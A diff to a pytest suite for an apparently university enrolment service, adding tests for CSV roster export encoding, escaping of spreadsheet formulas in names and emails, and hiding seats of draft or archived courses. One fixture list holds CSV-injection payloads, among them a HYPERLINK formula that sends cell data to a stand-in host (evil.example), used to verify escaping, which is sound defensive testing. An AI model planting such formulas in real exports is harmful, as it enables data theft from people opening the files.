@@ -6,9 +6,11 @@ import io
 import pytest
 from sqlalchemy import func, select
 
+from enrolment import operations
 from enrolment.models import Enrolment, IdempotentRequest
 from enrolment.replica import apply_offering_snapshot
 from shared.outbox import OutboxMessage
+from shared.auth import Principal
 from tests.conftest import bearer, offering_snapshot
 from tests.test_web import assert_problem
 
@@ -160,8 +162,10 @@ def test_the_roster_as_json_and_as_csv_with_cyrillic_names_intact(client, offeri
         ("confirmed", None), ("waitlisted", 1), ("waitlisted", 2)]
 
     response = client.get(f"/api/v1/offerings/{offering_id}/roster", headers={**coordinator, "Accept": "text/csv"})
-    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
-    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8"))))
+    assert response.mimetype == "text/csv"
+    assert response.headers["Content-Disposition"] == 'attachment; filename="roster-HEL-510-2027-spring.csv"'
+    assert response.get_data().startswith(b"\xef\xbb\xbf")  # Excel then reads it as UTF-8
+    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
     assert [row["name"] for row in rows] == [f"Студентка Номер {n}" for n in range(1, 4)]
     assert rows[1]["waitlist_position"] == "1"
 
@@ -182,3 +186,36 @@ def test_an_unknown_offering_is_not_remembered_for_the_key_since_it_may_still_ar
     retried = client.post("/api/v1/enrolments", json={"offering_id": snapshot["offering_id"]},
                           headers=student_headers(1, **{"Idempotency-Key": "early"}))
     assert retried.status_code == 201
+
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "+1+2", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd",
+            "＝1+1", "Анна Смирнова"]
+
+
+def test_no_roster_cell_starts_a_formula_in_a_spreadsheet(app, client):
+    """Names reach the roster from tokens; whatever they hold, a spreadsheet shows them as text (OWASP)."""
+    snapshot = offering_snapshot(capacity=len(FORMULAS))
+    with app.extensions["database"].transaction() as session:
+        apply_offering_snapshot(session, snapshot)
+        for number, name in enumerate(FORMULAS):
+            operations.enrol_student(session, Principal(f"student-{number}", "student", "SSMU", f"=s{number}@ssmu.ru",
+                                                        name, "ru"), snapshot["offering_id"])
+    response = client.get(f"/api/v1/offerings/{snapshot['offering_id']}/roster",
+                          headers={**bearer("coordinator", "LUMC"), "Accept": "text/csv"})
+    text = response.get_data().decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [row["name"] for row in rows] == ["'" + name for name in FORMULAS[:-1]] + ["Анна Смирнова"]
+    assert all(row["email"].startswith("'=") for row in rows)
+    assert text.splitlines()[1].startswith('"confirmed","","student-0"')  # every cell quoted
+
+
+@pytest.mark.parametrize("course_status", ["draft", "archived"])
+def test_seats_of_an_offering_of_a_course_the_catalogue_hides_are_hidden_too(app, client, course_status):
+    snapshot = offering_snapshot(course_status=course_status)
+    with app.extensions["database"].transaction() as session:
+        apply_offering_snapshot(session, snapshot)
+    seats = f"/api/v1/offerings/{snapshot['offering_id']}/seats"
+    assert_problem(client.get(seats), 404, "offering_not_found")
+    assert_problem(client.get(seats, headers=student_headers(1)), 404, "offering_not_found")
+    assert_problem(client.get(seats, headers=bearer("coordinator", "SSMU")), 404, "offering_not_found")
+    assert client.get(seats, headers=bearer("coordinator", "LUMC")).get_json()["capacity"] == 2
